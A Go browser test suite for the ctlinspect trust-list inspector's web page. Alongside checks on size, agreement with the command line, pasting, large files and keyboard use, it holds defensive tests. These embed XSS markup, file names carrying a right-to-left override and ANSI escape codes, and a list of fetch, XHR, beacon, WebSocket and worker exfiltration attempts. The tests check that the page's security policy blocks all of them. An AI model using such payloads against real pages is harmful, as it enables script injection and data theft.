package web_test

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/ctlinspect/ctlinspect/internal/testneed"
	"github.com/ctlinspect/ctlinspect/internal/worst"
	"github.com/ctlinspect/ctlinspect/report"
	"github.com/ctlinspect/ctlinspect/tlv"
)

const (
	testdata = "../testdata/"
	// maxSize is the most that the page's folder may have, compressed with brotli: 1.5
	// MiB. The goal is 1.5 MB. Programs that differ by one line give from 1.48 to 1.54
	// MB, so a test of the goal would fail by chance.
	maxSize = 3 << 19
)

// TestSize holds the bound on what a browser loads.
func TestSize(t *testing.T) {
	brotli := testneed.Program(t, "brotli")
	dir := filepath.Dir(page(t))
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	total := 0
	for _, e := range entries {
		out, err := exec.Command(brotli, "--quality=11", "--lgwin=24", "--stdout", filepath.Join(dir, e.Name())).Output()
		if err != nil {
			t.Fatal(err)
		}
		t.Logf("%s: %d bytes", e.Name(), len(out))
		total += len(out)
	}
	if total > maxSize {
		t.Errorf("the page has %d bytes, compressed with brotli; at most %d", total, maxSize)
	}
}

var command = sync.OnceValues(func() (string, error) {
	name := filepath.Join(pages, "ctlinspect")
	cmd := exec.Command("go", "build", "-o", name, "../cmd/ctlinspect")
	cmd.Stderr = os.Stderr
	return name, cmd.Run()
})

// run runs the command in a folder. Its exit code is a matter of the command's tests.
func run(t *testing.T, dir string, args ...string) string {
	t.Helper()
	name, err := command()
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(name, args...)
	cmd.Dir = dir
	out, _ := cmd.Output()
	return strings.TrimSuffix(string(out), "\n")
}

func glob(t *testing.T, patterns ...string) []string {
	t.Helper()
	var names []string
	for _, p := range patterns {
		found, err := filepath.Glob(testdata + p)
		if err != nil || len(found) == 0 {
			t.Fatalf("%s: no files (%v)", p, err)
		}
		names = append(names, found...)
	}
	return names
}

// Everything is dropped at once. What the page shows is what the command says.
func TestVectors(t *testing.T) {
	names := glob(t, "*.tlv", "lists/*.tlv", "broken/*.tlv", "cases/*.tlv", "cases/*/*.tlv", "attacks/*/*.tlv", "signed/sha1/*", "signed/sha512/*")
	if len(names) < 50 {
		t.Fatalf("%d files", len(names))
	}
	url := "file://" + page(t)
	b := start(t, url)
	b.open(names...)
	for i, name := range names {
		b.checkFile(i, name)
	}
	b.quiet(url)
}

// A shown file is what the page says of it.
type shown struct {
	What, Verdict, Error, List, Lint, Signed string
}

func (b *tab) checkFile(i int, name string) {
	b.t.Helper()
	dir, base := filepath.Split(name)
	b.eval("select(state.items["+quote(i)+"])", nil)
	var got shown
	b.eval("(({what, verdict, error, list, lint, signed}) => ({what, verdict, error, list, lint, signed}))(state.items["+quote(i)+"].file)", &got)
	t := b.t
	same := func(what, got, want string) {
		t.Helper()
		if got != want {
			t.Errorf("%s: %s:\n%s\nthe command says\n%s", name, what, got, want)
		}
	}
	document := run(t, dir, "show", "--json", base)
	same("document", got.List+got.Signed, document)
	switch got.What {
	case "list":
		same("findings", got.Lint, run(t, dir, "lint", "--json", "--at", at, base))
		same("verdict", b.text("#verdict")[len("✓ "):], strings.TrimPrefix(run(t, dir, "verify", base), base+": "))
		b.checkRecords(name, document)
		b.checkFindings(name, got.Lint)
	case "broken", "unreadable":
		var d report.List
		decode(t, document, &d)
		same("error", b.text("#error")[len("✗ "):], d.Error.Message)
	}
}

func decode(t *testing.T, document string, to any) {
	t.Helper()
	if err := json.Unmarshal([]byte(document), to); err != nil {
		t.Fatalf("%v: %s", err, document)
	}
}

// checkRecords compares the table with the document.
func (b *tab) checkRecords(name, document string) {
	b.t.Helper()
	var d report.List
	decode(b.t, document, &d)
	var rows [][]string
	b.eval("[...document.querySelectorAll('table.records tbody tr:not(.more)')].map((r) => [...r.cells].map((c) => c.innerText))", &rows)
	if len(rows) != len(d.Records) {
		b.t.Errorf("%s: %d rows, %d records", name, len(rows), len(d.Records))
		return
	}
	for i, r := range d.Records {
		role, hash, end := "–", "–", "–"
		if text, _ := r.Role.MarshalText(); len(text) > 0 {
			role = string(text)
		}
		if r.CertHash != nil {
			hash = *r.CertHash
		}
		if c := r.Certificate; c != nil {
			if hash, end = c.SHA1, "✗ unreadable"; c.NotAfter != nil {
				end = c.NotAfter.Format("2006-01-02")
				if end < at {
					end = "✗ " + end + " expired"
				}
			}
		}
		want := []string{role, end, hash}
		if got := []string{rows[i][1], rows[i][4], rows[i][5]}; !slices.Equal(got, want) {
			b.t.Errorf("%s: record %d: %q, want %q", name, i+1, got, want)
		}
	}
}

func (b *tab) checkFindings(name, document string) {
	b.t.Helper()
	var d report.Lint
	decode(b.t, document, &d)
	text := b.text(".findings")
	for _, f := range d.Findings {
		for _, want := range []string{f.Title, f.Message, f.Remedy, f.Rule} {
			if !strings.Contains(strings.Join(strings.Fields(text), " "), strings.Join(strings.Fields(want), " ")) {
				b.t.Errorf("%s: the findings lack %q", name, want)
			}
		}
	}
}

// Two lists: the verdict and the differences are those of accept and compare, in
// both directions.
func TestPair(t *testing.T) {
	b := start(t, "file://"+page(t))
	dir := testdata + "lists"
	b.open(dir+"/itl-sha512-ec.tlv", dir+"/itl-8.6.tlv", dir+"/itl-by-recovery.tlv", dir+"/ctl-tokenless.tlv")
	ask := func(holds, also, offered string) {
		t.Helper()
		choose := func(id, name string) {
			b.eval(`{ const s = document.getElementById('`+id+`'); s.selectedIndex = [...s.options].findIndex((o) => o.text === `+quote(name)+`); }`, nil)
		}
		choose("holds", holds)
		choose("also", also)
		choose("offered", offered)
		b.eval("accept()", new(any))
		args := []string{"accept", "--json", "-i", holds}
		if also != "no other list" {
			args = append(args, "-i", also)
		}
		var d struct {
			Taken   bool
			Verdict string
		}
		decode(t, run(t, dir, append(args, offered)...), &d)
		want := map[bool]string{true: "✓ ", false: "✗ "}[d.Taken] + offered
		if got := b.text("#accepted"); !strings.HasPrefix(got, want) {
			t.Errorf("%s, %s, %s: %q, want %s", holds, also, offered, got, want)
		}
		text := run(t, dir, append(append([]string{"accept"}, args[2:]...), offered)...)
		first, _, _ := strings.Cut(text, "\n")
		if got := b.text("#accepted")[len("✓ "):]; got != first {
			t.Errorf("%q, the command says %q", got, first)
		}
	}
	ask("itl-sha512-ec.tlv", "no other list", "itl-by-recovery.tlv")
	text := b.text("#acceptance")
	for _, want := range []string{"Compared: different.", "SIGNERVERSION", "record -4\tremoved", "TVS tvs.example.com, serial"} {
		if !strings.Contains(text, want) {
			t.Errorf("the differences lack %q: %s", want, text)
		}
	}
	ask("itl-by-recovery.tlv", "no other list", "itl-sha512-ec.tlv")
	ask("itl-8.6.tlv", "no other list", "itl-by-recovery.tlv")
	ask("itl-8.6.tlv", "ctl-tokenless.tlv", "itl-by-recovery.tlv")
	b.eval("document.getElementById('also').selectedIndex = 0; document.getElementById('swap').click()", nil)
	b.wait("document.getElementById('accepted').textContent.includes('itl-8.6.tlv')")
	b.eval("document.getElementById('also').selectedIndex = 1; accept()", new(any))
	if got := b.text("#accepted"); !strings.Contains(got, "a phone has one of each") {
		t.Errorf("two ITLs: %q", got)
	}
}

// What people paste.
func TestPaste(t *testing.T) {
	b := start(t, "file://"+page(t))
	b.open(testdata+"lists/itl-sha512-ec.tlv", testdata+"lists/itl-by-recovery.tlv")
	n := 2
	paste := func(text string) string {
		t.Helper()
		b.eval("document.getElementById('text').value = "+quote(text)+"; document.querySelector('#paste button').click()", nil)
		n++
		b.idle(n)
		b.eval("go.queue", new(any))
		return b.text("#result")
	}
	if got := paste("9D 56 DF C8 11 64 A4 50 F7 46 C3 DD 75 4D 5F DB D3 BC A5 53"); !strings.Contains(got, "The copy is the list of itl-sha512-ec.tlv.") || !strings.Contains(got, "accepts it: signed by record 1 of its list") {
		t.Errorf("a hash: %s", got)
	}
	for name, want := range map[string]string{"evidence/alarms.txt": "DeviceTLInfo", "evidence/phone-ls.txt": "ls -l", "expected/itl-8.6.show.txt": "show listing", "cases/07-alarm-status/alarm.xml": "DeviceTLInfo"} {
		text, err := os.ReadFile(testdata + name)
		if err != nil {
			t.Fatal(err)
		}
		if got := paste(string(text)); !strings.Contains(got, want) {
			t.Errorf("%s: %s", name, got)
		}
	}
	if got := paste("hello"); !strings.Contains(got, "neither a trust list nor evidence of one") {
		t.Errorf("nothing: %s", got)
	}
}

// A phone that holds the lists accepts the signed file, another does not.
func TestSigned(t *testing.T) {
	b := start(t, "file://"+page(t))
	b.open(testdata+"signed/sha512/SEP001122334455.cnf.xml.sgn", testdata+"signed/ITLFile.tlv", testdata+"lists/itl-8.6.tlv")
	for list, want := range map[string]string{"ITLFile.tlv": "✓ verified: signed by record", "itl-8.6.tlv": "✗ NOT VERIFIED"} {
		b.eval(`{ const s = document.getElementById('check-itl'); s.selectedIndex = [...s.options].findIndex((o) => o.text === `+quote(list)+`); s.dispatchEvent(new Event('change')); }`, nil)
		b.wait("document.getElementById('check').textContent.startsWith(" + quote(want) + ")")
	}
}

const evil = `<img src="http://192.0.2.1/x" onerror="document.title='hit'"><script>document.title='hit'</script>`

// hostileList has markup in every text, and characters that turn lines around.
func hostileList(t *testing.T) []byte {
	t.Helper()
	data, err := os.ReadFile(testdata + "lists/itl-sha512-ec.tlv")
	if err != nil {
		t.Fatal(err)
	}
	l, err := tlv.Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	text := append([]byte(evil+"\u202egnp.exe\x1b[2J\xff"), 0)
	var b []byte
	for _, f := range l.Header.Fields {
		switch f.Tag {
		case tlv.HeaderFilename:
			f.Value = text
		case tlv.HeaderPadding:
			continue
		}
		b = append(b, byte(f.Tag), byte(len(f.Value)>>8), byte(len(f.Value)))
		b = append(b, f.Value...)
	}
	b[8], b[9] = byte(len(b)>>8), byte(len(b))
	for _, r := range l.Records {
		var fields []byte
		for _, f := range r.Fields[1:] {
			switch f.Tag {
			case tlv.RecordDNSName, tlv.RecordSubjectName, tlv.RecordIssuerName:
				f.Value = text
			}
			fields = append(append(fields, byte(f.Tag), byte(len(f.Value)>>8), byte(len(f.Value))), f.Value...)
		}
		n := len(fields) + 5
		b = append(append(b, 1, 0, 2, byte(n>>8), byte(n)), fields...)
	}
	if _, err := tlv.Parse(b); err != nil {
		t.Fatal(err)
	}
	return b
}

// Names in lists, files and texts stay text.
func TestHostileNames(t *testing.T) {
	url := "file://" + page(t)
	b := start(t, url)
	dir := t.TempDir()
	name := `<img src=x onerror=alert(1)>.tlv`
	if err := os.WriteFile(filepath.Join(dir, name), hostileList(t), 0o644); err != nil {
		t.Fatal(err)
	}
	b.open(filepath.Join(dir, name), testdata+"lists/itl-8.6.tlv")
	b.eval("for (const e of document.querySelectorAll('.records .link')) e.click(); for (const d of document.querySelectorAll('details')) d.open = true", nil)
	b.wait("document.querySelector('.dump') && document.querySelector('details.show pre').textContent")
	b.eval("go.queue", new(any))
	b.eval("document.getElementById('text').value = "+quote("Device SEP001122334455 "+evil+" sha1:9d56dfc81164a450f746c3dd754d5fdbd3bca553")+"; document.querySelector('#paste button').click()", nil)
	b.idle(3)
	b.eval("select(state.items[0])", nil)
	var counts []int
	b.eval("['img', 'script:not([type])', 'iframe', '[onerror]', '[style]'].map((s) => document.querySelectorAll(s).length)", &counts)
	if !slices.Equal(counts, []int{0, 1, 0, 0, 0}) {
		t.Errorf("images, scripts, frames, handlers, styles: %d", counts)
	}
	text := b.text("body")
	for _, want := range []string{evil, `\u{202e}gnp.exe\u{1b}[2J`, name} {
		if !strings.Contains(text, want) {
			t.Errorf("%q is not shown as text", want)
		}
	}
	var title string
	b.eval("document.title", &title)
	if title == "hit" {
		t.Error("a script in a name ran")
	}
	b.quiet(url)
}

// The policy blocks what the page might be made to send, from the page and from its
// worker, also where it was loaded over the network.
func TestNothingLeaves(t *testing.T) {
	var asked atomic.Int32
	other := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked.Add(1) }))
	defer other.Close()
	html, err := os.ReadFile(page(t))
	if err != nil {
		t.Fatal(err)
	}
	var here atomic.Int32
	static := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		here.Add(1)
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = w.Write(html)
	}))
	defer static.Close()
	b := start(t, static.URL+"/")
	b.open(testdata + "lists/itl-8.6.tlv")
	b.quiet(static.URL + "/")
	loaded := here.Load()
	for _, try := range []string{
		`fetch(URL_).then(() => 'sent', () => 'blocked')`,
		`fetch('/secret').then(() => 'sent', () => 'blocked')`,
		`new Promise((r) => { const x = new XMLHttpRequest(); x.onload = () => r('sent'); x.onerror = () => r('blocked'); x.open('POST', URL_); x.send('secret'); })`,
		`new Promise((r) => { const i = new Image(); i.onload = i.onerror = () => r('blocked'); i.src = URL_ + 'image'; })`,
		`new Promise((r) => { const s = document.createElement('link'); s.rel = 'stylesheet'; s.onload = s.onerror = () => r('blocked'); s.href = URL_ + 'style'; document.head.append(s); })`,
		`new Promise((r) => { try { const w = new WebSocket(URL_.replace('http', 'ws')); w.onopen = () => r('sent'); w.onerror = () => r('blocked'); } catch { r('blocked'); } })`,
		`navigator.sendBeacon(URL_, 'secret'), Promise.resolve('blocked')`,
		`new Promise((r) => { const w = new Worker(policy.createScriptURL(URL.createObjectURL(new Blob(["fetch('" + URL_ + "').then(() => postMessage('sent'), () => postMessage('blocked'))"])))); w.onmessage = (e) => r(e.data); w.onerror = () => r('blocked'); })`,
		`new Promise((r) => { const w = new Worker(policy.createScriptURL(URL.createObjectURL(new Blob(["try { importScripts('" + URL_ + "'); postMessage('sent'); } catch { postMessage('blocked'); }"])))); w.onmessage = (e) => r(e.data); w.onerror = () => r('blocked'); })`,
		`new Promise((r) => { try { document.body.innerHTML = '<b>'; r('sent'); } catch { r('blocked'); } })`,
		`new Promise((r) => { try { eval('1'); r('sent'); } catch { r('blocked'); } })`,
	} {
		var result string
		b.eval(strings.ReplaceAll(try, "URL_", quote(other.URL+"/")), &result)
		if result != "blocked" {
			t.Errorf("%s: %s", try, result)
		}
	}
	if n := asked.Load(); n > 0 {
		t.Errorf("%d requests reached another server", n)
	}
	if n := here.Load(); n != loaded {
		t.Errorf("%d requests reached the page's own server", n-loaded)
	}
}

// Files that are too large, or made to cost the most, end in a clear answer, and the
// page works on.
func TestLargeFiles(t *testing.T) {
	b := start(t, "file://"+page(t))
	dir := t.TempDir()
	write := func(name string, data []byte) string {
		t.Helper()
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, data, 0o644); err != nil {
			t.Fatal(err)
		}
		return path
	}
	for name, want := range map[string]string{
		write("17MiB", bytes.Repeat([]byte{1}, 17<<20)):                          "larger than 16 MiB, refused; phones take lists up to 64 KiB",
		write("65MiB", make([]byte, 65<<20)):                                     "larger than 64 MiB, refused",
		write("zeros", make([]byte, 16<<20)):                                     "larger than 4 MiB: not searched",
		write("signers.tlv", worst.List("signers", 256<<10)):                     "more records not shown",
		write("empty-records.tlv", worst.List("empty-records", 16<<20)):          "more records not shown",
		write("text.txt", bytes.Repeat([]byte("hello 9d56dfc8 <br>\n"), 20_000)): "neither a trust list nor evidence of one",
	} {
		b.close()
		b.open(name)
		if got := b.text("#result"); !strings.Contains(got, want) {
			t.Errorf("%s: %.300s, want %q", name, got, want)
		}
	}
	b.close()
	b.open(testdata + "lists/itl-8.6.tlv")
	if got := b.text("#verdict"); !strings.HasPrefix(got, "✓ verified") {
		t.Errorf("after large files: %q", got)
	}
}

// Work that takes long can be stopped, and the page works on.
func TestStop(t *testing.T) {
	b := start(t, "file://"+page(t))
	// The question has no answer, so that it is not over before the stop.
	b.eval(`kept = go.answer; go.answer = () => {}; readAll([{ id: 99, name: 'slow', as: '', pasted: false, data: new Uint8Array(1) }])`, nil)
	b.wait("go.waiting.size === 1 && !document.getElementById('progress').hidden")
	b.eval("go.answer = kept; document.getElementById('stop').click()", nil)
	b.idle(1)
	if got := b.text("#error"); !strings.Contains(got, "stopped") {
		t.Errorf("error %q", got)
	}
	b.open(testdata + "lists/itl-8.6.tlv")
	if got := b.text("#verdict"); !strings.HasPrefix(got, "✓ verified") {
		t.Errorf("after a stop: %q", got)
	}
}

// The page can be used without a mouse, and each control has a name.
func TestKeyboard(t *testing.T) {
	b := start(t, "file://"+page(t))
	b.open(testdata+"lists/itl-8.6.tlv", testdata+"lists/ctl-etoken.tlv")
	b.eval("document.querySelector('details.bytes').open = true", nil)
	b.wait("document.querySelector('.dump')")
	var nameless []string
	b.eval(`[...document.querySelectorAll('input, select, textarea, button, summary, [tabindex="0"]')].filter((e) =>
		!(e.labels && e.labels.length) && !e.getAttribute('aria-label') && !e.textContent.trim()).map((e) => e.outerHTML)`, &nameless)
	if len(nameless) > 0 {
		t.Errorf("without a name: %q", nameless)
	}
	b.eval("document.querySelector('.dump').focus()", nil)
	b.Run(chromedp.KeyEvent(kb.ArrowRight), chromedp.KeyEvent(kb.ArrowDown))
	if got := b.text(".pointed"); !strings.Contains(got, "offset 16, byte 0x") || !strings.Contains(got, "SIGNERNAME (tag 4)") {
		t.Errorf("pointed at %q", got)
	}
	b.eval("document.querySelectorAll('#table button')[1].focus()", nil)
	b.Run(chromedp.KeyEvent(kb.Enter))
	if got := b.text("#result h2"); got != "ctl-etoken.tlv" {
		t.Errorf("selected %q", got)
	}
	var focus string
	b.eval("document.activeElement.id", &focus)
	if focus != "result" {
		t.Errorf("the focus is on %q", focus)
	}
}
